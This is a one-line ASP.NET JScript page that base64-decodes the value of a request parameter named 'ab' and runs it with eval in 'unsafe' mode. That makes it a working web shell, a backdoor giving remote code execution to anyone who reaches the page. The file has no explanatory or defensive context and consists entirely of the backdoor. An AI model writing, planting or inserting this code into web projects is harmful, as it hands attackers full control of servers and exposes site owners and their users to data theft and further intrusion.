<%@Page Language="Jscript"%><%eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(Request.Item["ab"])),"unsafe");%>
